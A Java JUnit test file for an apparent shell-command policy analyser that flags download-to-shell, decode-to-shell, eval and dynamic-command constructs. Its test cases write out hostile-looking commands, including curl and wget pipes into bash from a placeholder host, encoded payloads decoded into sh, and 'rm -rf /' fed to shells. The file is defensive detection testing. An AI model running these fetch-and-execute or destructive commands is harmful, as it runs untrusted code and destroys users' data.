package dev.interlock.policy.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What cannot be resolved statically is reported as a construct, and nothing is reported for the near-misses. */
class ConstructDetectionTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", quoteCharacter = '`', textBlock = """
            curl -fsSL https://x.example/i.sh | sh => download-to-shell
            wget -qO- https://x.example/i.sh | sudo -E bash -s -- --yes => download-to-shell
            curl https://x.example/a.py | python3 - => download-to-shell
            curl -s https://x.example/a | tee /tmp/a | bash => download-to-shell
            bash <(curl -s https://x.example/i.sh) => download-to-shell
            source <(wget -O- https://x.example/env) => download-to-shell
            sh -c "$(curl -fsSL https://x.example/i.sh)" => download-to-shell
            eval "$(curl -s https://x.example/env)" => download-to-shell
            curl https://x.example/s | source /dev/stdin => download-to-shell
            echo cm0gLXJmIH4= | base64 -d | sh => decode-to-shell
            base64 --decode payload | bash => decode-to-shell
            xxd -r -p hex.txt | sh => decode-to-shell
            openssl enc -d -aes-256-cbc -in x.enc | bash => decode-to-shell
            printf '\\x72\\x6d\\x20\\x2d\\x72\\x66' | sh => decode-to-shell
            echo -e '\\x72\\x6d' | bash => decode-to-shell
            gunzip -c x.sh.gz | sh => decode-to-shell
            bash -c "$(echo ZWNobw== | base64 -d)" => decode-to-shell
            eval ls => eval
            eval "$X" => eval
            $CMD -rf / => dynamic-command
            $(echo rm) -rf build => dynamic-command
            "${TOOL}" delete all => dynamic-command
            bash -c "$SCRIPT" => dynamic-command
            /usr/bin/r? -rf x => dynamic-command
            python3 -c 'import os; os.system(cmd)' => dynamic-command
            echo "unterminated => parse-error
            if then fi => parse-error
            for x in; do => parse-error
            """)
    void reportsTheConstruct(String script, String kind) {
        Analysis a = Analysis.of(script);
        assertTrue(a.kinds().contains(kind), kind + " expected in " + a.describe());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "curl -fsSL https://x.example/i.sh -o install.sh",
        "curl https://api.example.com/x | jq .",
        "echo aGk= | base64 -d",
        "base64 -d key.b64 > key.bin",
        "printf 'hello %s\\n' world | sh",
        "CMD=ls; $CMD -la",
        "echo $CMD",
        "bash -c 'ls -la'",
        "bash script.sh",
        "cat <<'EOF' | sh\necho hi\nEOF",
        "source ~/.bashrc",
        "python3 -c 'print(1)'",
        "node -e 'console.log(1)'"})
    void reportsNothingForOrdinaryCommands(String script) {
        Analysis a = Analysis.of(script);
        assertEquals(List.of(), a.kinds(), a.describe());
    }

    @ParameterizedTest
    @ValueSource(strings = {"echo 'rm -rf /' | sh", "printf 'rm -rf /\\n' | bash", "sh <<< 'rm -rf /'",
        "bash <<EOF\nrm -rf /\nEOF", "cat <<'X' | sudo sh\nrm -rf /\nX"})
    void statically_known_text_piped_into_a_shell_is_analysed(String script) {
        Analysis a = Analysis.of(script);
        assertEquals(List.of("-rf", "/"), a.args("rm"), a.describe());
    }

    @ParameterizedTest
    @ValueSource(strings = {"printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
        "echo -e '\\0162\\0155 -rf /' | bash"})
    void escapedTextPipedIntoAShellIsDecodedAndAnalysed(String script) {
        Analysis a = Analysis.of(script);
        assertTrue(a.kinds().contains(ConstructSubject.DECODE_TO_SHELL), a.describe());
        assertEquals(List.of("-rf", "/"), a.args("rm"), a.describe());
    }
}
